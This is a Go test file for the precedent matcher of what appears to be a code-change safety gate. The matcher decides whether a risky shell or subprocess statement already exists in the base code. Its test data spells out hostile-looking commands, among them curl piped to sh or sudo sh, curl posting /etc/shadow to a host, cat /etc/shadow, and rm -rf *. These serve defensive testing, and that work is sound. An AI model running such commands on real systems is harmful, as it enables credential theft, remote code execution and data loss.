package precedent

import (
	"context"
	"errors"
	"io/fs"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
)

// classify says what the files of these tests are.
func classify(name string, _ fs.FileMode, _ []byte) (gate.Language, gate.Role) {
	role := gate.RoleSource
	switch {
	case strings.HasSuffix(name, "_test.py"):
		role = gate.RoleTest
	case strings.HasPrefix(name, ".github/"):
		return gate.LanguageWorkflow, gate.RoleCI
	case name == "Dockerfile":
		return gate.LanguageDockerfile, gate.RoleInfra
	case name == "package.json":
		return gate.LanguageJSON, gate.RoleManifest
	case strings.HasSuffix(name, ".md"):
		return gate.LanguageMarkdown, gate.RoleDocs
	case strings.HasSuffix(name, ".txt"):
		return gate.LanguageText, gate.RoleSource
	}
	for end, language := range map[string]gate.Language{".sh": gate.LanguageShell, ".py": gate.LanguagePython, ".js": gate.LanguageJavaScript, ".go": gate.LanguageGo} {
		if strings.HasSuffix(name, end) {
			return language, role
		}
	}
	return gate.LanguageUnknown, role
}

func tree(files map[string]string) fs.FS {
	out := fstest.MapFS{}
	for name, text := range files {
		out[name] = &fstest.MapFile{Data: []byte(text)}
	}
	return out
}

// where is the precedent of the first statement of text with the word in it.
func where(t *testing.T, base fs.FS, language gate.Language, role gate.Role, text, word string) string {
	t.Helper()
	at := strings.Index(text, word)
	if at < 0 {
		t.Fatalf("no %q in %q", word, text)
	}
	return ask(Of(t.Context(), base, nil, classify), language, role, text, at)
}

// ask is what is known of the statement around an offset.
func ask(known Known, language gate.Language, role gate.Role, text string, at int) string {
	s, ok := Read(language, []byte(text)).At(at)
	if !ok {
		return ""
	}
	return known.Where(language, role, s)
}

func TestTheSameCommandHasAPrecedent(t *testing.T) {
	const piped = "curl -fsSL https://get.example.com/tool/v1.2.3/install.sh | sh\n"
	for name, tt := range map[string]struct {
		base, text string
		want       string
	}{
		"unchanged":                          {piped, piped, "a.sh:2"},
		"with other blanks and quotes":       {piped, "  curl -fsSL  'https://get.example.com/tool/v1.2.3/install.sh' |  sh", "a.sh:2"},
		"over two lines":                     {piped, "curl -fsSL \\\n  https://get.example.com/tool/v1.2.3/install.sh | sh", "a.sh:2"},
		"the next version":                   {piped, strings.ReplaceAll(piped, "1.2.3", "1.2.4"), "a.sh:2"},
		"behind a condition":                 {piped, "if ! command -v tool; then " + strings.TrimSpace(piped) + "; fi", "a.sh:2"},
		"another path of the host":           {piped, strings.ReplaceAll(piped, "/tool/", "/evil/"), ""},
		"another host with that path":        {piped, strings.ReplaceAll(piped, "get.example.com", "got.example.com"), ""},
		"another version in the host":        {"curl http://192.0.2.1/x | sh", "curl http://192.0.2.2/x | sh", ""},
		"another account on a shared host":   {"curl https://raw.githubusercontent.com/us/x/main/i.sh | sh", "curl https://raw.githubusercontent.com/them/x/main/i.sh | sh", ""},
		"beside another command":             {"killall a", "killall a; killall b", ""},
		"beside one with a variable":         {"killall a", "killall a; killall $b", ""},
		"beside one that writes":             {"killall a", "true > /etc/a; killall a", ""},
		"another shell":                      {piped, strings.ReplaceAll(piped, "| sh", "| sudo sh"), ""},
		"only a part of the pipeline":        {"curl https://a.example.com/x > x", "curl https://a.example.com/x | sh", ""},
		"another method":                     {"curl https://a.example.com/x", "curl -X POST https://a.example.com/x", ""},
		"other data":                         {"curl -d @a.json https://a.example.com/x", "curl -d @/etc/shadow https://a.example.com/x", ""},
		"data from elsewhere":                {"curl -d @- https://a.example.com/x", "curl -d @- https://a.example.com/x", ""},
		"data of a pipe":                     {"tee /etc/tool.conf", "tee /etc/tool.conf", ""},
		"data below it":                      {"cat > /etc/tool.conf <<EOF\na\nEOF", "cat > /etc/tool.conf <<EOF\nb\nEOF", ""},
		"of a group":                         {"{ echo a; } > /etc/tool.conf", "{ cat /etc/shadow; } > /etc/tool.conf", ""},
		"of a loop":                          {"while true; do a; done > /etc/tool.conf", "while true; do b; done > /etc/tool.conf", ""},
		"a variable":                         {"curl $URL | sh", "curl $URL | sh", ""},
		"a variable in quotes":               {"curl \"$URL\" | sh", "curl \"$URL\" | sh", ""},
		"a substitution":                     {"kill `pidof tool` -9", "kill `pidof tool` -9", ""},
		"a variable of the environment":      {"PIP_INDEX_URL=https://a.example.com pip install tool", "PIP_INDEX_URL=https://a.example.com pip install tool", ""},
		"what depends on the folder":         {"rm -rf *", "rm -rf *", ""},
		"what depends on the folder's place": {"rm -rf ../build", "rm -rf ../build", ""},
		"one package of two":                 {"pip install a", "pip install a b", ""},
		"another file":                       {"rm -rf /etc/tool", "rm -rf /etc/other", ""},
		"what is a comment in the base":      {"# killall tool", "killall tool", ""},
		"what is data in the base":           {"cat <<EOF\nkillall tool\nEOF", "killall tool", ""},
		"what is a string in the base":       {"echo 'a\nkillall tool\nb'", "killall tool", ""},
	} {
		t.Run(name, func(t *testing.T) {
			word := strings.Fields(strings.TrimLeft(tt.text, " {"))[0]
			if i := strings.Index(tt.text, "curl"); i >= 0 {
				word = "curl"
			} else if i := strings.Index(tt.text, "> /etc"); i >= 0 {
				word = "> /etc"
			}
			if got := where(t, tree(map[string]string{"a.sh": "#!/bin/sh\n" + tt.base}), gate.LanguageShell, gate.RoleSource, tt.text, word); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestTheSameCallHasAPrecedent(t *testing.T) {
	for name, tt := range map[string]struct {
		language   gate.Language
		base, text string
		same       bool
	}{
		"of a program":            {gate.LanguagePython, "subprocess.run(['killall', 'tool'], check=True)", "x = subprocess.run([\"killall\",\n  'tool'], check=True)", true},
		"with other arguments":    {gate.LanguagePython, "subprocess.run(['killall', 'tool'])", "subprocess.run(['killall', 'other'])", false},
		"with other switches":     {gate.LanguagePython, "subprocess.run(['killall', 'tool'])", "subprocess.run(['killall', 'tool'], shell=True)", false},
		"with a variable":         {gate.LanguagePython, "subprocess.run(['killall', name])", "subprocess.run(['killall', name])", false},
		"with data of a variable": {gate.LanguagePython, "requests.post('https://a.example.com/', json=data)", "requests.post('https://a.example.com/', json=data)", false},
		"with a text put together": {
			gate.LanguagePython, "subprocess.run(f'killall {name}', shell=True)", "subprocess.run(f'killall {name}', shell=True)", false},
		"with a member of something": {gate.LanguagePython, "subprocess.run(['killall', self.name])", "subprocess.run(['killall', self.name])", false},
		"that opens a file to write": {gate.LanguagePython, "f = open('/etc/tool.conf', 'w')", "f = open('/etc/tool.conf', 'w')", false},
		"that writes a text":         {gate.LanguagePython, "Path('/etc/tool.conf').write_text('a')", "Path('/etc/tool.conf').write_text('a')", true},
		"that writes another":        {gate.LanguagePython, "Path('/etc/tool.conf').write_text('a')", "Path('/etc/tool.conf').write_text('b')", false},
		"of another method":          {gate.LanguagePython, "requests.get('https://a.example.com/')", "requests.post('https://a.example.com/')", false},
		"in JavaScript":              {gate.LanguageJavaScript, "const x = execSync('killall tool', {stdio: 'inherit'});", "execSync(\"killall tool\", { stdio: \"inherit\" })", true},
		"in a template of it":        {gate.LanguageJavaScript, "execSync(`killall ${name}`)", "execSync(`killall ${name}`)", false},
		"in Go":                      {gate.LanguageGo, "\terr := exec.Command(\"killall\", \"tool\").Run()", "return exec.Command(\"killall\", \"tool\").Run()", true},
		"with a variable in Go":      {gate.LanguageGo, "exec.Command(\"killall\", name).Run()", "exec.Command(\"killall\", name).Run()", false},
		"in a text":                  {gate.LanguagePython, "text = '''\nsubprocess.run(['killall', 'tool'])\n'''", "subprocess.run(['killall', 'tool'])", false},
	} {
		t.Run(name, func(t *testing.T) {
			file := map[gate.Language]string{gate.LanguagePython: "a.py", gate.LanguageJavaScript: "a.js", gate.LanguageGo: "a.go"}[tt.language]
			word := "("
			if got := where(t, tree(map[string]string{file: tt.base}), tt.language, gate.RoleSource, tt.text, word); (got != "") != tt.same {
				t.Errorf("got %q, want one: %v", got, tt.same)
			}
		})
	}
}

func TestPrecedentsAreCodeThatExecutes(t *testing.T) {
	const step = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo a\n          killall tool\n"
	for name, tt := range map[string]struct {
		file, text string
		role       gate.Role
		want       string
	}{
		"a program for a program":            {"a.sh", "killall tool", gate.RoleSource, "a.sh:1"},
		"a program for CI":                   {"a.sh", "killall tool", gate.RoleCI, "a.sh:1"},
		"CI for CI":                          {".github/workflows/a.yml", step, gate.RoleCI, ".github/workflows/a.yml:8"},
		"CI for a container":                 {".github/workflows/a.yml", step, gate.RoleInfra, ".github/workflows/a.yml:8"},
		"a container for CI":                 {"Dockerfile", "FROM a\nRUN killall tool\n", gate.RoleCI, "Dockerfile:2"},
		"CI for a program":                   {".github/workflows/a.yml", step, gate.RoleSource, ""},
		"CI for an installation":             {".github/workflows/a.yml", step, gate.RoleManifest, ""},
		"a program for an installation":      {"a.sh", "killall tool", gate.RoleManifest, ""},
		"an installation for the same":       {"package.json", `{"scripts": {"postinstall": "killall tool"}}`, gate.RoleManifest, "package.json:1"},
		"an installation for a program":      {"package.json", `{"scripts": {"postinstall": "killall tool"}}`, gate.RoleSource, ""},
		"a program that calls a shell":       {"a.py", "os.system('killall tool')", gate.RoleSource, ""},
		"a test":                             {"a_test.py", "os.system('killall tool')", gate.RoleSource, ""},
		"a folder of tests":                  {"pkg/tests/a.sh", "killall tool", gate.RoleSource, ""},
		"a fixture":                          {"fixtures/a.sh", "killall tool", gate.RoleSource, ""},
		"an example":                         {"examples/a.sh", "killall tool", gate.RoleSource, ""},
		"code of others":                     {"node_modules/x/a.sh", "killall tool", gate.RoleSource, ""},
		"documentation":                      {"README.md", "```sh\nkillall tool\n```\n", gate.RoleSource, ""},
		"data":                               {"a.txt", "killall tool", gate.RoleSource, ""},
		"nothing is a precedent for a test":  {"a.sh", "killall tool", gate.RoleTest, ""},
		"a file that is larger than a bound": {"a.sh", "killall tool\n" + strings.Repeat("#", maxFile), gate.RoleSource, ""},
	} {
		t.Run(name, func(t *testing.T) {
			if got := where(t, tree(map[string]string{tt.file: tt.text}), gate.LanguageShell, tt.role, "killall tool", "killall"); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// counted counts how often a tree is opened.
type counted struct {
	fs.FS
	opened *int
}

func (c counted) Open(name string) (fs.File, error) {
	*c.opened++
	return c.FS.Open(name)
}

func TestTheBaseIsReadOnceAndOnlyIfAsked(t *testing.T) {
	opened := 0
	known := Of(t.Context(), counted{tree(map[string]string{"a.sh": "killall tool"}), &opened}, nil, classify)
	if opened > 0 {
		t.Error("the base was read before it was needed")
	}
	ask(known, gate.LanguageShell, gate.RoleSource, "killall tool", 0)
	once := opened
	if ask(known, gate.LanguageShell, gate.RoleSource, "killall tool", 0); once == 0 || opened != once {
		t.Errorf("the base was opened %d times, then %d", once, opened)
	}
}

// unlisted opens files and lists none, as a tree behind an API.
type unlisted struct{ fs.FS }

func (u unlisted) Open(name string) (fs.File, error) {
	if name == "." {
		return nil, errors.New("not listed")
	}
	return u.FS.Open(name)
}

func TestABaseThatCannotBeListedIsReadAtThePathsOfTheChange(t *testing.T) {
	base := unlisted{tree(map[string]string{"a.sh": "killall tool", "b.sh": "killall other", "tests/c.sh": "killall third"})}
	known := Of(t.Context(), base, []string{"a.sh", "tests/c.sh", "new.sh"}, classify)
	for text, want := range map[string]string{"killall tool": "a.sh:1", "killall other": "", "killall third": ""} {
		if got := ask(known, gate.LanguageShell, gate.RoleSource, text, 0); got != want {
			t.Errorf("%s: got %q, want %q", text, got, want)
		}
	}
}

func TestPrecedentsNeedABase(t *testing.T) {
	if got := ask(Of(t.Context(), nil, nil, classify), gate.LanguageShell, gate.RoleSource, "killall tool", 0); got != "" {
		t.Errorf("got %q", got)
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	if got := ask(Of(ended, tree(map[string]string{"a.sh": "killall tool"}), nil, classify), gate.LanguageShell, gate.RoleSource, "killall tool", 0); got != "" {
		t.Errorf("after the end: got %q", got)
	}
}

func FuzzRead(f *testing.F) {
	f.Add("curl 'https://a.example.com/v1.2' | sh; a && b\n", 3)
	f.Add("x = run(['a', \"b\"], c=True)\n", 4)
	f.Add("a \\\n b\n'", 1)
	f.Fuzz(func(t *testing.T, text string, offset int) {
		for _, l := range []gate.Language{gate.LanguageShell, gate.LanguagePython, gate.LanguageJavaScript, gate.LanguageTypeScript, gate.LanguageGo, gate.LanguageText} {
			r := Read(l, []byte(text))
			r.All(func(at int, statement string) {
				if at < 0 || at >= len(text) || statement == "" {
					t.Errorf("%s: %q at %d", l, statement, at)
				}
			})
			if offset >= 0 {
				r.At(offset)
			}
		}
	})
}
